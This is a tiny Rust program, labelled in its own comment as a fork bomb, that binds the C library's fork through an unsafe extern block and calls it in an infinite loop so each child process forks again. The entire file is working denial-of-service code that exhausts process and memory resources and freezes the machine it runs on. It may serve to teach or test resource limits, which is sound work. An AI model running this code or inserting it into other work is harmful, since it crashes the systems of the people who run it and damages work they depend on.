// A fork bomb through `unsafe` and the C library's fork: every child forks too.
unsafe extern "C" {
    fn fork() -> i32;
}

fn main() {
    loop {
        unsafe {
            fork();
        }
    }
}
